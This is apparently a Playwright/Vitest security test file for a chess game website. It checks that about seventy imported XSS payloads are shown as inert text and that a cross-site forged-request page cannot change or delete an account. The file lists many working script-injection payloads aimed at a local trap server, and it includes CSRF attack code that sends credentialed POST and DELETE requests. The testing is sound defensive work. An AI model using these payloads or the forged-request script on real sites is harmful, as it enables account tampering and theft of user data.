import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Page } from '@playwright/test';
import { expect, onTestFinished, test } from 'vitest';
import { findOrInstallChromium } from '../../../scripts/find-chromium.ts';
import { formatMovetext, createOddMoves } from '../test-support/hostile-game.ts';
import { hostileTexts } from '../test-support/hostile-texts.ts';
import { openSite, startTrap, type Site } from './hostile-site.ts';

/**
 * Creates markup that is known from script injections. Each would send a request to the trap. None is longer than a PGN
 * tag may be.
 */
const createPayloads = (trap: string): string[] => {
  const call = `fetch('${trap}/x')`;
  const scripts = [
    `<img src=x onerror="${call}">`,
    `<img src="${trap}/img">`,
    `<svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `</script><script>${call}</script>`,
    `</title><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `--><script>${call}</script><!--`,
    `"><script>${call}</script>`,
    `'><img src=${trap}/q>`,
    `" onmouseover="${call}" x="`,
    `' autofocus onfocus='${call}`,
    `<iframe src="${trap}/frame">`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<object data="${trap}/object">`,
    `<embed src="${trap}/embed">`,
    `<link rel=stylesheet href="${trap}/css">`,
    `<style>@import '${trap}/style';</style>`,
    `<base href="${trap}/">`,
    `<meta http-equiv=refresh content="0;url=${trap}/meta">`,
    `<form action="${trap}/form"><input autofocus onfocus=${call}>`,
    `<details open ontoggle=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<body onload=${call}>`,
    `<a href="javascript:${call}">x</a>`,
    `javascript:${call}`,
    `![x](${trap}/markdown)`,
    `<x style="background:url(${trap}/url)">`,
    `<template><img src=${trap}/template></template>`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    String.raw`\u003cscript\u003e${call}\u003c/script\u003e`,
    `{{constructor.constructor("${call}")()}}`,
    '${' + call + '}',
    `<![CDATA[<script>${call}</script>]]>`,
    `<math><mi xlink:href="javascript:${call}">`,
    `\u202E<img src=${trap}/rtl>`,
    `\u200B<img src=${trap}/zero>\u2066`,
  ];
  return [...scripts, ...hostileTexts.map(([, text]) => text.replaceAll(/[\r\n\0]/g, ' '))];
};

/** Selector of elements that none of our pages contains. */
const aliens = 'main :is(iframe, object, embed, base, form[action^=http])';

/** Opens a tab that records everything except requests to the site itself. */
async function openTab(site: Site) {
  const browser = await chromium.launch({ executablePath: findOrInstallChromium() });
  onTestFinished(() => browser.close());
  const context = await browser.newContext();
  const page = await context.newPage();
  const trouble: string[] = [];
  page.on('dialog', (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => trouble.push(`uncaught: ${error.message}`));
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted Type/i.test(message.text())) trouble.push(message.text());
  });
  page.on('request', (request) => {
    if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(site.url))
      trouble.push(`asked ${request.url()}`);
  });
  return { context, page, trouble };
}

async function signIn(site: Site, page: Page, token: string): Promise<void> {
  const { user } = (await site.call('GET /api/auth/me', { token })).body;
  await page.addInitScript(
    ([secret, about]) => {
      localStorage.setItem('authToken', secret);
      localStorage.setItem('user', about);
    },
    [token, JSON.stringify(user)] as const,
  );
}

test('D2: seventy hostile texts, imported, are shown as text on every page of a game, run nothing and request nothing', async () => {
  const trap = await startTrap();
  const site = await openSite({});
  const { token } = await site.admin();
  const texts = createPayloads(trap.url);
  expect(texts.length).toBeGreaterThan(60);
  await site.call('POST /api/auth/update-profile', {
    token,
    body: { firstName: texts[0]?.slice(0, 100), lastName: texts[2]?.slice(0, 100) },
  });
  const slugs: string[] = [];
  for (const [index, text] of texts.entries()) {
    const short = text.slice(0, 100).toWellFormed();
    const {
      status,
      body,
      text: said,
    } = await site.call('POST /api/admin/games', {
      token,
      body: {
        title: text,
        white: text,
        black: text,
        tournament: text,
        description: text,
        whyStudy: text,
        openingStyle: short,
        otherDetails: { date: short, venue: text, round: short, timeControl: short },
        pgn: `{${text.replaceAll('}', ' ')}} ${formatMovetext(createOddMoves(12, 7000 + index))} *`,
      },
    });
    expect(status, said).toBe(201);
    slugs.push((body['game'] as { slug: string }).slug);
  }
  const { page, trouble } = await openTab(site);
  await signIn(site, page, token);
  const { url: panel } = (await site.call('GET /api/auth/admin-panel-url', { token })).body;
  const few = slugs.slice(0, 12);
  const pages = [
    '/games',
    '/dashboard',
    '/account-settings',
    String(panel),
    ...few.map((slug) => `/analysis/${slug}`),
    ...few.slice(0, 4).map((slug) => `/interactive/${slug}`),
  ];
  let shown = '';
  for (const path of pages) {
    await page.goto(`${site.url}${path}`);
    await page.waitForLoadState('networkidle');
    for (let top = 0; top < 5000; top += 500) await page.mouse.wheel(0, 500);
    shown += await page.locator('body').innerText();
    const alien = await page.locator(aliens).count();
    expect(alien, path).toBe(0);
  }
  expect(shown).toContain('onerror=');
  expect(trouble).toEqual([]);
  expect(trap.visits()).toBe(0);
});

/** Runs in the page of the attacking site. */
const attack = `async ([address, body, everywhere]) => {
  for (const form of document.forms) form.submit();
  const send = (to, init) =>
    fetch(to, { method: 'POST', credentials: 'include', ...init }).catch(() => undefined);
  await send(address, { mode: 'no-cors', body, headers: { 'content-type': 'text/plain' } });
  await send(address, { mode: 'no-cors', body: new Blob([body]) });
  await send(address, { body, headers: { 'content-type': 'application/json' } });
  await send(everywhere, { mode: 'no-cors' });
  await send(address.replace('update-profile', 'delete-account'), { method: 'DELETE' });
  navigator.sendBeacon(address, body);
  await new Promise((resolve) => setTimeout(resolve, 1000));
}`;

test('E4: a page of another site, with a cookie of ours, can change nothing', async () => {
  const site = await openSite({});
  const { token, firstName } = await site.person();
  const { context, page } = await openTab(site);
  await context.addCookies([
    { name: 'authToken', value: token, url: site.url },
    { name: '__Host-token', value: token, url: site.url.replace('http:', 'https:'), secure: true },
  ]);
  const profile = JSON.stringify({ firstName: 'Stolen', lastName: 'Name' });
  const target = `${site.url}/api/auth/update-profile`;
  const evil = createServer((_, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>
      <iframe name=sink></iframe>
      <form target=sink method=post enctype=text/plain action="${target}">
        <input name='${profile.slice(0, -1)},"x":"' value='"}'></form>
      <form target=sink method=post action="${site.url}/api/auth/logout-everywhere"></form>`),
  );
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => new Promise<void>((resolve) => evil.close(() => resolve())));
  await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
  const given = JSON.stringify([target, profile, `${site.url}/api/auth/logout-everywhere`]);
  await page.evaluate(`(${attack})(${given})`);
  // The browser hides these responses from the attacking page, so they are read from the server's log.
  const answers = site.server
    .getOutput()
    .split('\n')
    .filter((line) => /update-profile|logout-everywhere|delete-account/.test(line))
    .map((line) => Number(/"status":(\d+)/.exec(line)?.[1]));
  expect(answers.length).toBeGreaterThan(4);
  expect(answers.filter((status) => !(status >= 400))).toEqual([]);
  expect(answers).toContain(403);
  const me = await site.call('GET /api/auth/me', { token });
  expect([me.status, me.body['user']]).toMatchObject([200, { firstName }]);
});
